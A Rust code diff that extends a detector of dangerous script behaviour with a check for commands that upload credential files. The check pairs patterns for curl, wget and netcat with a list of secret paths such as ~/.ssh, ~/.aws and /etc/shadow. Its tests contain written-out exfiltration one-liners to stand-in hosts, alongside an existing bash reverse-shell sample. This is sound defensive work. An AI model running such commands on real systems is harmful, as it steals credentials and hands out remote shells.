@@ -73,6 +73,8 @@ pub enum ScriptAct {
     ReverseShell,
     /// Sees to it that something runs again after a restart.
     Persists,
+    /// Sends files of credentials.
+    SendsSecrets,
 }
 
 impl ScriptAct {
@@ -83,6 +85,7 @@ impl ScriptAct {
             Self::HiddenPowerShell => "runs PowerShell encoded or out of sight",
             Self::ReverseShell => "hands a shell to a socket",
             Self::Persists => "stays after a restart",
+            Self::SendsSecrets => "sends files of credentials",
         }
     }
 }
@@ -104,6 +107,7 @@ pub fn acts(text: &str) -> Vec<(ScriptAct, u32)> {
             (ScriptAct::HiddenPowerShell, hides_powershell(&low)),
             (ScriptAct::ReverseShell, gives_shell(&low)),
             (ScriptAct::Persists, persists(&low)),
+            (ScriptAct::SendsSecrets, sends_secrets(&low)),
         ] {
             if does && !acts.iter().any(|(known, _)| *known == act) {
                 acts.push((act, number));
@@ -170,6 +174,42 @@ fn persists(low: &str) -> bool {
         || low.contains("launchctl load") && low.contains("launchagents")
 }
 
+/// Takes what unlocks other machines and hands it to a tool that uploads, in one line.
+fn sends_secrets(low: &str) -> bool {
+    let sends = has_any(low, &["curl ", "curl.exe ", "wget "])
+        && has_any(
+            low,
+            &[
+                " -t ",
+                " -d @",
+                " -f ",
+                "--upload-file",
+                "--data @",
+                "--data-binary",
+                "--post-file",
+                "--form ",
+            ],
+        )
+        || low.split('|').skip(1).any(|part| has_any(part.trim_start(), &["nc ", "ncat ", "netcat "]));
+    let secrets = [
+        "/.ssh",
+        "/.aws",
+        "/.kube",
+        "/.gnupg",
+        "/.netrc",
+        "/.npmrc",
+        "/.pypirc",
+        "/.docker/config",
+        "/.config/gcloud",
+        "/.git-credentials",
+        "/etc/shadow",
+        "\\.ssh",
+        "\\.aws",
+        "wallet.dat",
+    ];
+    sends && has_any(low, &secrets)
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -191,6 +231,11 @@ mod tests {
         }
         assert_eq!(found("powershell -w hidden -enc AAAA"), [ScriptAct::HiddenPowerShell]);
         assert_eq!(found("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"), [ScriptAct::ReverseShell]);
+        assert_eq!(
+            found("tar czf - ~/.ssh ~/.aws | curl -s -T - https://x.example.invalid/a"),
+            [ScriptAct::SendsSecrets]
+        );
+        assert_eq!(found("cat /etc/shadow | nc x.example.invalid 9"), [ScriptAct::SendsSecrets]);
         assert_eq!(found("(crontab -l; echo '* * * * * x') | crontab -"), [ScriptAct::Persists]);
     }
 
